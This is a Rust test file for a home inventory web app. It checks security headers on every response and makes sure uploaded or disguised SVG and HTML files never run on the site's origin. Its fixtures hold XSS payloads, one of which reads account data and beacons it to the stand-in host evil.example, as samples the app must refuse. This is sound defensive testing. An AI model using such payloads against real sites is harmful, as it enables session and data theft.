//! The hardened edge: every answer — page, file, API data, error — carries the headers that
//! keep the site from being framed, from running anyone else's script, from leaking its
//! addresses (share links carry a secret in theirs) and from having a file taken for a page;
//! and an uploaded page or SVG never runs on the site's origin.

use axum::http::{HeaderMap, Method, StatusCode};
use serde_json::json;

use crate::attachments::{Files, Place, png};
use crate::helpers::{Backend, TestApp, spawn_app_with};

const PAGE: &str = "<!doctype html><title>Home Inventory</title>\
    <script type=\"module\" src=\"/boot-0123456789abcdef.js\"></script>";

async fn app_with_a_build(public_url: &str) -> TestApp {
    let dir = tempfile::tempdir().expect("a temp dir").keep();
    std::fs::write(dir.join("index.html"), PAGE).unwrap();
    std::fs::write(dir.join("boot-0123456789abcdef.js"), "import('/web.js');").unwrap();
    let public_url = public_url.to_string();
    spawn_app_with(Backend::Sqlite, move |config| {
        config.static_dir = Some(dir);
        config.public_url = public_url;
    })
    .await
}

fn header_of<'a>(headers: &'a HeaderMap, name: &str) -> &'a str {
    headers
        .get(name)
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
}

/// The headers every answer has, whatever it is.
fn assert_hardened(what: &str, headers: &HeaderMap) {
    assert_eq!(
        header_of(headers, "x-content-type-options"),
        "nosniff",
        "{what}"
    );
    assert_eq!(header_of(headers, "x-frame-options"), "DENY", "{what}");
    assert_eq!(
        header_of(headers, "referrer-policy"),
        "no-referrer",
        "{what}"
    );
    assert_eq!(
        header_of(headers, "cross-origin-opener-policy"),
        "same-origin",
        "{what}"
    );
    assert!(
        header_of(headers, "permissions-policy").contains("geolocation=()"),
        "{what}"
    );
    let csp = header_of(headers, "content-security-policy");
    assert!(
        csp.contains("frame-ancestors 'none'"),
        "{what}: framing is refused by the policy too: {csp:?}"
    );
    assert!(
        !csp.contains("'unsafe-eval'") && !csp.contains("script-src *"),
        "{what}: {csp:?}"
    );
}

/// The policy of a page of the app: its own scripts and WebAssembly, nothing inline.
fn assert_app_policy(what: &str, headers: &HeaderMap) {
    let csp = header_of(headers, "content-security-policy");
    assert!(
        csp.contains("script-src 'self' 'wasm-unsafe-eval';"),
        "{what}: {csp:?}"
    );
    assert!(csp.contains("style-src 'self';"), "{what}: {csp:?}");
    assert!(csp.contains("object-src 'none'"), "{what}: {csp:?}");
    assert!(!csp.contains("unsafe-inline"), "{what}: {csp:?}");
}

/// A path of the OpenAPI document with every parameter filled in.
fn filled(path: &str) -> String {
    let mut out = String::new();
    let mut rest = path;
    while let Some(open) = rest.find('{') {
        out.push_str(&rest[..open]);
        let close = rest[open..].find('}').map_or(rest.len(), |c| open + c + 1);
        out.push_str("0190e2c4-aaaa-7bbb-8ccc-0123456789ab");
        rest = &rest[close..];
    }
    out.push_str(rest);
    out
}

#[tokio::test]
async fn every_page_and_every_api_answer_carries_the_security_headers() {
    let app = app_with_a_build("http://127.0.0.1:8080").await;
    let ann = app.register("Ann").await;

    // The app's pages and files.
    for path in [
        "/",
        "/items",
        "/security",
        "/s/some-share-link-secret",
        "/boot-0123456789abcdef.js",
        "/web-0000000000000000.js",
    ] {
        let answer = app.request(Method::GET, path, None, None, &[]).await;
        assert_hardened(path, &answer.headers);
        assert_app_policy(path, &answer.headers);
        assert!(
            answer.headers.get("strict-transport-security").is_none(),
            "{path}: no HSTS over plain http"
        );
    }

    // Every GET of the API, signed in and signed out, whatever it answers.
    let document = app
        .request(Method::GET, "/api/v1/openapi.json", None, None, &[])
        .await;
    assert_eq!(document.status, StatusCode::OK);
    assert_hardened("the OpenAPI document", &document.headers);
    let paths = document.body["paths"].as_object().expect("paths").clone();
    let mut checked = 0;
    for (path, operations) in &paths {
        if operations.get("get").is_none() {
            continue;
        }
        let url = format!("/api/v1{}", filled(path));
        for token in [Some(ann.token.as_str()), None] {
            let answer = app.request(Method::GET, &url, token, None, &[]).await;
            let what = format!("GET {url} ({})", answer.status);
            assert_hardened(&what, &answer.headers);
            let csp = header_of(&answer.headers, "content-security-policy");
            assert!(
                csp.starts_with("default-src 'none'"),
                "{what}: API answers load nothing: {csp:?}"
            );
            checked += 1;
        }
    }
    assert!(checked > 40, "only {checked} GETs were checked");

    // Errors made outside any handler, and writes.
    let unknown = app
        .request(Method::GET, "/api/v1/no-such-thing", None, None, &[])
        .await;
    assert_eq!(unknown.status, StatusCode::NOT_FOUND);
    assert_hardened("an unknown API path", &unknown.headers);
    let cross_site = app
        .request(
            Method::POST,
            &app.at(&ann, "/items"),
            Some(&ann.token),
            Some(json!({"name": "Lamp"})),
            &[("origin", "https://evil.example")],
        )
        .await;
    assert_eq!(cross_site.status, StatusCode::FORBIDDEN);
    assert_hardened("a refused cross-site write", &cross_site.headers);
    let created = app
        .request(
            Method::POST,
            &app.at(&ann, "/items"),
            Some(&ann.token),
            Some(json!({"name": "Lamp"})),
            &[],
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED);
    assert_hardened("a create", &created.headers);
    let health = app
        .request(Method::GET, "/api/health", None, None, &[])
        .await;
    assert_hardened("the health check", &health.headers);

    // The API docs page keeps its own policy (Redoc's styles), framing still refused.
    let docs = app.request(Method::GET, "/api/docs", None, None, &[]).await;
    assert_hardened("the API docs", &docs.headers);
    assert!(header_of(&docs.headers, "content-security-policy").contains("script-src 'self'"));
}

#[tokio::test]
async fn behind_https_browsers_are_told_to_use_nothing_else() {
    let app = app_with_a_build("https://inventory.example").await;
    for path in ["/", "/api/health", "/api/v1/me"] {
        let answer = app.request(Method::GET, path, None, None, &[]).await;
        let hsts = header_of(&answer.headers, "strict-transport-security");
        assert!(hsts.starts_with("max-age=63072000"), "{path}: {hsts:?}");
        assert!(hsts.contains("includeSubDomains"), "{path}: {hsts:?}");
    }
}

const SCRIPTED_SVG: &[u8] = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.cookie)\">\
    <script>fetch('/api/v1/me').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))</script></svg>";
const SCRIPTED_PAGE: &[u8] =
    b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>";
const PDF: &[u8] =
    b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n";

async fn an_uploaded_page_or_svg_never_runs_on_the_sites_origin(place: Place) {
    let Some(files) = Files::start(Backend::Sqlite, place, 1 << 20).await else {
        return;
    };
    let app = &files.app;
    let ann = app.register("Ann").await;
    let item = files.item(&ann, "Camera").await;
    let base = app.at(&ann, &format!("/items/{item}/attachments"));

    // Announced as what they are: refused before any byte is sent.
    for (name, kind) in [
        ("drawing.svg", "image/svg+xml"),
        ("page.html", "text/html"),
        ("page.xhtml", "application/xhtml+xml"),
    ] {
        let announced = app
            .post(
                base.clone(),
                &ann,
                json!({"kind": "photo", "filename": name, "content_type": kind, "size": 100}),
            )
            .await;
        assert_eq!(
            announced.status,
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "{name}: {}",
            announced.body
        );
    }
    // Disguised: the bytes are looked at, and they are not what was announced.
    for (name, kind, bytes) in [
        ("photo.png", "image/png", SCRIPTED_SVG),
        ("photo.jpg", "image/jpeg", SCRIPTED_PAGE),
        ("receipt.pdf", "application/pdf", SCRIPTED_PAGE),
    ] {
        let kind_of = if kind == "application/pdf" {
            "receipt"
        } else {
            "photo"
        };
        let refused = files
            .attach(&ann, &item, kind_of, name, kind, bytes.to_vec())
            .await;
        assert_eq!(
            refused.status,
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "{name}: {}",
            refused.body
        );
    }
    let listed = app.get(base.clone(), &ann).await;
    assert_eq!(
        listed.body["items"],
        json!([]),
        "nothing disguised was kept"
    );

    // What is kept is served as what it is, never as a page: a PDF named like a page is
    // saved as a PDF, a photo is shown but sandboxed, and neither is sniffed.
    let pdf = files
        .attach(
            &ann,
            &item,
            "receipt",
            "invoice.html",
            "application/pdf",
            PDF.to_vec(),
        )
        .await;
    assert_eq!(pdf.status, StatusCode::OK, "{}", pdf.body);
    let (status, headers, _) = files
        .download_with_headers(pdf.body["url"].as_str().unwrap())
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(header_of(&headers, "content-type"), "application/pdf");
    let disposition = disposition_of(&files, pdf.body["url"].as_str().unwrap(), &headers);
    assert!(
        disposition.starts_with("attachment;") && disposition.contains("invoice.pdf"),
        "{disposition:?}"
    );
    let photo = files
        .attach(&ann, &item, "photo", "front.png", "image/png", png(8, 8))
        .await;
    assert_eq!(photo.status, StatusCode::OK, "{}", photo.body);
    let (status, headers, _) = files
        .download_with_headers(photo.body["url"].as_str().unwrap())
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(header_of(&headers, "content-type"), "image/png");
    assert!(
        disposition_of(&files, photo.body["url"].as_str().unwrap(), &headers).starts_with("inline")
    );
    if place == Place::Folder {
        // Served by the API itself: the headers of every answer, and a sandbox.
        for url in [&pdf.body["url"], &photo.body["url"]] {
            let (_, headers, _) = files.download_with_headers(url.as_str().unwrap()).await;
            assert_hardened("a served file", &headers);
            let csp = header_of(&headers, "content-security-policy");
            assert!(csp.contains("sandbox"), "{csp:?}");
        }
    }
}

/// How a file will be served: the header the API sent, or on S3 what the signed address
/// tells S3 to send (`response-content-disposition`; the S3-compatible test server does not
/// answer with it, S3 does).
fn disposition_of(files: &Files, url: &str, headers: &HeaderMap) -> String {
    if !files.on_s3() {
        return header_of(headers, "content-disposition").to_string();
    }
    let url = reqwest::Url::parse(url).expect("a signed address");
    url.query_pairs()
        .find(|(name, _)| name == "response-content-disposition")
        .map(|(_, value)| value.into_owned())
        .unwrap_or_default()
}

#[tokio::test]
async fn an_uploaded_page_or_svg_never_runs_on_the_sites_origin_from_the_folder() {
    an_uploaded_page_or_svg_never_runs_on_the_sites_origin(Place::Folder).await;
}

#[tokio::test]
async fn an_uploaded_page_or_svg_never_runs_on_the_sites_origin_from_s3() {
    an_uploaded_page_or_svg_never_runs_on_the_sites_origin(Place::S3).await;
}
